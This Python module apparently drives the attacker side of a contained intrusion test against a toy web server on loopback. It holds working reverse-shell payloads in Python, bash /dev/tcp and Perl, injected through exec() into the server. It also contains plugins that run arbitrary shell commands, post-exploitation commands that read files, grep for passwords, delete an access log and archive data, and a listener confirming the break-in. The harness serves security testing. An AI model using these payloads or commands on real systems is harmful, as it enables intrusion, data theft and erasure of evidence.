"""The untraced far side of an attack: a loopback listener, the requests that are sent, and what they say."""

import http.client
import select
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from desk import Desk

SINK_COMMANDS = [
    "id",
    "uname -a",
    "pwd",
    "ls -la",
    "ls -R files",
    "cat files/notes.txt",
    "wc -l files/notes.txt",
    "echo $HOME",
    "head -n 2 access.log",
    "find . -name '*.txt'",
    "grep -r pass plugins",
    "mkdir .cache; cp files/notes.txt .cache",
    "tail -n 1 access.log; rm access.log",
    "tar -cf .files.tar files",
]

PLUGIN_SHELL = [
    "import subprocess\ndef answer(query):\n"
    "    return subprocess.run(query['cmd'], shell=True, capture_output=True, text=True).stdout\n",
    "import os\ndef answer(query):\n    return os.popen(query['cmd']).read()\n",
    "import os\ndef answer(query):\n    os.system(query['cmd'] + ' > out 2>&1')\n    return open('out').read()\n",
]

_CONNECT = "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n"
_ONTO_SOCKET = "for n in (0, 1, 2): os.dup2(s.fileno(), n)\n"
_PERL = (
    "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, inet_aton(q(127.0.0.1)))); "
    "open(STDIN, q(<&S)); open(STDOUT, q(>&S)); open(STDERR, q(>&S)); exec q(/bin/sh);"
)
_REVERSE_SHELLS = [
    _CONNECT + _ONTO_SOCKET + "os.execv('/bin/sh', ['sh', '-i'])",
    _CONNECT + _ONTO_SOCKET + "os.execv('/bin/bash', ['bash', '--norc'])",
    _CONNECT + "if os.fork() == 0:\n    os.setsid()\n    " + _ONTO_SOCKET + "    os.execv('/bin/sh', ['sh'])\n",
    _CONNECT + _ONTO_SOCKET + "import subprocess\nsubprocess.call(['/bin/sh', '-i'])",
    "import subprocess\nsubprocess.call(['bash', '-c', 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'])",
    "import subprocess\nsubprocess.call(['perl', '-e', '" + _PERL + "'])",
]


def reverse_shell_expression(desk: Desk, port: int) -> str:
    """An expression that, evaluated by the toy web server, connects back to the port and runs a shell."""
    return f"exec({desk.turn(_REVERSE_SHELLS).replace('{port}', str(port))!r})"


def send_requests(desk: Desk, port: int, requests: list[str], may_break: bool = False) -> None:
    """Sends METHOD:PATH requests over one connection; with `may_break` the server may hang up on the last."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        for request in requests:
            method, path = request.split(":", 1)
            body = (desk.folder / Path(path).name).read_bytes() if method == "PUT" else None
            connection.request(method, path, body=body, headers={"X-Token": desk.token})
            connection.getresponse().read()
    except (http.client.HTTPException, ConnectionError):
        if not may_break:
            raise
    finally:
        connection.close()


@dataclass
class Listener:
    """A loopback port, TCP and UDP, and whether anything came."""

    port: int
    heard: bool = False


@contextmanager
def listening(commands: list[str]) -> Iterator[Listener]:
    """Every connection is sent the commands and then `exit`; what comes is dropped; raises when nothing came."""
    with _both_sockets() as (server, datagrams):
        listener = Listener(server.getsockname()[1])
        thread = threading.Thread(target=_serve, args=(server, commands, listener), daemon=True)
        thread.start()
        yield listener
        server.shutdown(socket.SHUT_RDWR)
        thread.join()
        listener.heard |= bool(select.select([datagrams], [], [], 0)[0])
        if not listener.heard:
            raise RuntimeError("the intrusion did not work: nothing reached the listener")


@contextmanager
def _both_sockets() -> Iterator[tuple[socket.socket, socket.socket]]:
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(server.getsockname())
        yield server, datagrams


def _serve(server: socket.socket, commands: list[str], listener: Listener) -> None:
    while True:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        listener.heard = True
        with connection:
            try:
                for command in [*commands, "exit"] if commands else []:
                    connection.sendall(command.encode() + b"\n")
                    time.sleep(0.05)
                while connection.recv(65536):
                    pass
            except ConnectionError:
                continue
